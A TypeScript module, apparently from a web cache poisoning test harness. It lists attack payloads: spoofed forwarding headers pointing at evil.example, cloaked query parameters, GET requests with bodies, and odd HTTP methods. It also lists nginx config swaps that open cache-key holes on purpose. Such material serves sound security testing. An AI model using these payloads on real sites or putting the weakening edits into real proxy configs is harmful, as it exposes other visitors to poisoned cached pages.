import { h2, h2Start } from './h2-frames.ts'
import { poison } from './judge.ts'
import { ask, get } from './send.ts'
import { swap, type AttackClass } from './technique.ts'

const evil = 'evil.example'

/** Headers from which some frameworks build addresses, texts or the whole answer. */
const headers = [
  `X-Forwarded-Host: ${evil}`,
  'X-Forwarded-Proto: http',
  'X-Forwarded-Scheme: nothttps',
  'X-Forwarded-Port: 1337',
  'X-Forwarded-Prefix: /evil',
  'X-Forwarded-For: 203.0.113.7',
  `X-Host: ${evil}`,
  `X-Forwarded-Server: ${evil}`,
  `Forwarded: for=203.0.113.7;host=${evil};proto=http`,
  'X-Original-URL: /login',
  'X-Rewrite-URL: /login',
  'X-HTTP-Method-Override: POST',
  `Origin: https://${evil}`,
  `Referer: https://${evil}/`,
  'User-Agent: evil',
  'Accept: application/json',
  'Accept-Language: ja',
  'Authorization: Bearer evil',
  'Sec-Fetch-Site: cross-site',
  'Sec-Purpose: prefetch',
  'X-Requested-With: XMLHttpRequest',
  'Upgrade-Insecure-Requests: 0',
  'Upgrade: h2c',
  'X-Request-Id: evil',
  'Cache-Control: max-age=99999',
]

const unkeyedHeaders: AttackClass = {
  name: 'headers outside the key',
  works: 25,
  weakness: 'all headers of a visitor pass to the web',
  weaken: swap(
    ['proxy_pass_request_headers off;', 'proxy_pass_request_headers on;'],
    ['{ 1 $http_', '{ default $http_'],
    ['X-Forwarded-For $remote_addr;', 'X-Forwarded-For $proxy_add_x_forwarded_for;'],
    ['X-Request-Id $request_id;', 'X-Request-Id $http_x_request_id;'],
  ),
  techniques: headers.map((header) =>
    poison(header.split(':')[0] ?? '', (page) =>
      get(page, ...(header.startsWith('Upgrade: ') ? ['HTTP2-Settings: AAMAAABk'] : []), header),
    ),
  ),
}

/** Parameter cloaking: a second search term in ways that one parser sees and another does not. */
const cloaks: Record<string, (search: string) => string> = {
  'unknown parameter': (search) => `${search}&utm_content=evil`,
  'semicolon as separator': (search) => `${search}&a=b;q=evil`,
  'semicolon after the value': (search) => `${search};q=evil`,
  'encoded name': (search) => `${search}&%71=evil`,
  'name encoded twice': (search) => `${search}&%2571=evil`,
  'repeated name': (search) => `${search}&q=evil`,
  'other case': (search) => `${search}&Q=evil`,
  'list by brackets': (search) => `${search}&q[]=evil`,
  'encoded ampersand': (search) => `${search}%26q=evil`,
  'space before the name': (search) => `${search}&+q=evil`,
  'empty parts': (search) => `${search}&&&x=evil`,
  'second question mark': (search) => `${search}&?q=evil`,
  'null byte': (search) => `${search}&x%00q=evil`,
  'number sign': (search) => `${search}&x=1#&q=evil`,
  'parameter of the router': (search) => `${search}&_routes=evil`,
  'parameter of an index route': (search) => `${search}&index=evil`,
  callback: (search) => `${search}&callback=evil`,
}

const unkeyedQuery: AttackClass = {
  name: 'parameters outside the key',
  works: 8,
  weakness: 'the web is asked with the whole query, the key has the known part',
  weaken: swap(['$edge_path$edge_mark$edge_query;', '$edge_path$is_args$args;']),
  techniques: Object.entries(cloaks).map(([name, cloak]) =>
    poison(name, (search) => get(cloak(search)), { page: ({ newSearch }) => newSearch() }),
  ),
}

const form = 'Content-Type: application/x-www-form-urlencoded'
const fatReads: AttackClass = {
  name: 'reads with a body',
  works: 9,
  weakness: 'a body of a read is not refused',
  weaken: swap(
    ['if ($edge_is_fat)', 'if ($edge_is_never)'],
    ['server_tokens off;', 'server_tokens off; set $edge_is_never "";'],
  ),
  techniques: [
    poison('GET with a length', (page) => `${get(page, form, 'Content-Length: 6')}q=evil`),
    poison('GET in chunks', (page) => `${get(page, form, 'Transfer-Encoding: chunked')}6\r\nq=evil\r\n0\r\n\r\n`),
    poison('HEAD with a length', (page) => `${ask('HEAD', page, form, 'Content-Length: 6')}q=evil`),
    poison(
      'GET that is a POST by its override',
      (page) => `${get(page, form, 'X-HTTP-Method-Override: POST', 'Content-Length: 6')}q=evil`,
    ),
    poison(
      'GET that waits to continue',
      (page) => `${get(page, form, 'Expect: 100-continue', 'Content-Length: 6')}q=evil`,
    ),
    poison('GET with a length in HTTP/2', (page) => h2([...h2Start('GET', page), ['content-length', '6']], 'q=evil')),
    poison('GET without a length in HTTP/2', (page) => h2(h2Start('GET', page), 'q=evil')),
    poison('HEAD without a length in HTTP/2', (page) => h2(h2Start('HEAD', page), 'q=evil')),
    poison('GET of the home page without a length in HTTP/2', (page) => h2(h2Start('GET', page), 'q=evil'), {
      page: ({ newSearch }) => newSearch().replace(/^.*\?q/, '/?seed'),
    }),
  ],
}

const methods: AttackClass = {
  name: 'methods',
  works: 4,
  weakness: 'other methods are asked and stored like reads',
  weaken: swap(
    ['"~^(?:GET|HEAD) (?!private$)" "";', '"~^[A-Za-z]+ (?!private$)" "";'],
    ['proxy_cache_methods GET HEAD;', 'proxy_cache_methods GET HEAD POST; proxy_cache_convert_head off;'],
  ),
  techniques: [
    poison('HEAD before GET', (page) => ask('HEAD', page)),
    poison('HEAD in HTTP/2', (page) => h2(h2Start('HEAD', page))),
    poison('POST', (page) => `${ask('POST', page, form, 'Content-Length: 6')}q=evil`),
    poison('POST without a body', (page) => ask('POST', page, 'Content-Length: 0')),
    ...['OPTIONS', 'TRACE', 'PUT', 'DELETE', 'PATCH', 'PURGE', 'CONNECT', 'PROPFIND', 'get', 'GET\t'].map((method) =>
      poison(method.replace('\t', ' and a tab'), (page) => ask(method, page, 'Content-Length: 0')),
    ),
    poison('override in the query', (page) => get(`${page}?_method=DELETE`)),
  ],
}

export const unkeyedClasses = [unkeyedHeaders, unkeyedQuery, fatReads, methods]
